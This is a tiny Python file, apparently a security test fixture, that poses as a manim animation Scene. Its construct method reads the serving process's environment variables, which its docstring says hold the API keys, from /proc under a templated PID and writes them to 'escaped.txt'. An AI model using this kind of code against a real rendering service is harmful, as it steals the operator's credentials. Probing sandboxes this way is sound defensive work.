"""Reads the serving process's environment (its API keys) through /proc."""

from pathlib import Path

from manim import Scene


class ServerEnviron(Scene):
    def construct(self):
        environ = Path("/proc/@SERVER_PID@/environ").read_bytes()
        Path("escaped.txt").write_bytes(environ)
